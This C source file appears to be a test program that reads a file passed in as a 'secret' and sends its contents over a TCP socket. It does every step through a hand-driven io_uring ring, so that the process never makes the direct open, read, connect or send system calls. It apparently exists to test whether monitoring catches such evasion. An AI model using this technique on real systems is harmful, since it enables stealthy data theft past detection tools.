/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Everything through io_uring: open, read, connect, send, each as a ring request, no such system call by this process.
 * The ring is driven by hand because liburing may be missing. `async` forces every request into a kernel worker thread.
 */
#include "provoke.h"

#include <linux/io_uring.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/syscall.h>

struct ring {
	int fd;
	unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
};

static void *map_ring(int fd, size_t size, off_t offset)
{
	void *p = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, offset);

	if (p == MAP_FAILED)
		err(1, "mmap of the ring");
	return p;
}

static void ring_init(struct ring *r)
{
	struct io_uring_params p = { 0 };
	char *sq, *cq;

	r->fd = check((int)syscall(SYS_io_uring_setup, 8, &p), "io_uring_setup");
	sq = map_ring(r->fd, p.sq_off.array + p.sq_entries * sizeof(unsigned), IORING_OFF_SQ_RING);
	cq = map_ring(r->fd, p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe), IORING_OFF_CQ_RING);
	r->sqes = map_ring(r->fd, p.sq_entries * sizeof(struct io_uring_sqe), IORING_OFF_SQES);
	r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
	r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
	r->sq_array = (unsigned *)(sq + p.sq_off.array);
	r->cq_head = (unsigned *)(cq + p.cq_off.head);
	r->cq_tail = (unsigned *)(cq + p.cq_off.tail);
	r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
	r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
}

static int ring_do(struct ring *r, const struct io_uring_sqe *sqe, const char *what)
{
	unsigned at = *r->sq_tail & *r->sq_mask, head = *r->cq_head;
	int result;

	r->sqes[at] = *sqe;
	r->sq_array[at] = at;
	__atomic_store_n(r->sq_tail, *r->sq_tail + 1, __ATOMIC_RELEASE);
	check((int)syscall(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0), "io_uring_enter");
	while (__atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE) == head)
		usleep(1000);
	result = r->cqes[head & *r->cq_mask].res;
	__atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
	if (result < 0)
		errx(1, "%s: %s", what, strerror(-result));
	return result;
}

static uint64_t address_of(const void *p)
{
	return (uint64_t)(uintptr_t)p;
}

int main(int argc, char **argv)
{
	struct args a = parse_args(argc, argv);
	uint8_t flags = KIND_IS(a, "async") ? IOSQE_ASYNC : 0;
	int s = new_socket(&a, SOCK_STREAM), fd, n;
	struct io_uring_sqe sqe;
	char data[4096];
	struct ring r;

	ring_init(&r);
	sqe = (struct io_uring_sqe){ .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = address_of(a.secret), .flags = flags };
	fd = ring_do(&r, &sqe, "open");
	sqe = (struct io_uring_sqe){ .opcode = IORING_OP_READ, .fd = fd, .addr = address_of(data), .len = sizeof(data),
				     .flags = flags };
	n = ring_do(&r, &sqe, "read");
	sqe = (struct io_uring_sqe){ .opcode = IORING_OP_CONNECT, .fd = s, .addr = address_of(&a.to), .off = a.to_len,
				     .flags = flags };
	ring_do(&r, &sqe, "connect");
	sqe = (struct io_uring_sqe){ .opcode = IORING_OP_SEND, .fd = s, .addr = address_of(data), .len = (unsigned)n,
				     .flags = flags };
	ring_do(&r, &sqe, "send");
	finish(s);
	return 0;
}
